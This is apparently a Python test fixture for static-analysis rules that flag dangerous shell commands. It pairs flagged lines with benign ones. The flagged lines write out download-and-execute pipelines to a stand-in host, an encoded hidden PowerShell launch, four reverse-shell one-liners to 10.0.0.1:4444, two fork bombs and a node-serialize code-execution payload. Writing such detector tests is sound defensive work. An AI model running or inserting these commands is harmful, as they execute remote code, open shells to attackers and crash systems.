# ruff: noqa
# fmt: off
import os
import subprocess


def install():
    # ruleid: any-download-pipe-shell
    os.system("curl -fsSL http://x.example/i.sh | bash")
    # ruleid: any-download-pipe-shell
    subprocess.run("wget -q -O- https://x.example/a | sudo sh", shell=True)
    # ruleid: any-download-pipe-shell
    os.system("curl -s http://x.example/k -o /tmp/k && chmod +x /tmp/k && /tmp/k")
    # ruleid: any-download-pipe-shell
    os.system("chmod 755 /tmp/kdevtmpfsi")
    # ruleid: any-download-pipe-shell
    os.system("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA")


def shells():
    # ruleid: any-reverse-shell-command
    os.system("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
    # ruleid: any-reverse-shell-command
    os.system("nc -e /bin/sh 10.0.0.1 4444")
    # ruleid: any-reverse-shell-command
    os.system("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f")
    # ruleid: any-reverse-shell-command
    os.system("socat tcp:10.0.0.1:4444 exec:'bash -li',pty,stderr")


def bombs():
    # ruleid: any-fork-bomb-shell
    os.system(":(){ :|:& };:")
    # ruleid: any-fork-bomb-shell
    os.system("bomb() { bomb | bomb & }; bomb")


# ruleid: any-node-serialize-payload
PAYLOAD = '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'


def benign(url):
    # ok: any-download-pipe-shell
    subprocess.run(["curl", "-fsS", "-o", "/tmp/report.pdf", url], check=True)
    # ok: any-download-pipe-shell, any-reverse-shell-command
    out = subprocess.run("ls -l | sort | head -n 5", shell=True, capture_output=True)
    # ok: any-reverse-shell-command
    devices = os.listdir("/dev")
    # ok: any-fork-bomb-shell
    pipeline = "cat data.csv | cut -d, -f1 | uniq -c"
    # ok: any-node-serialize-payload
    doc = "serialize functions with _ND_FUNC_ prefix is not supported"
    return out, devices, pipeline, doc
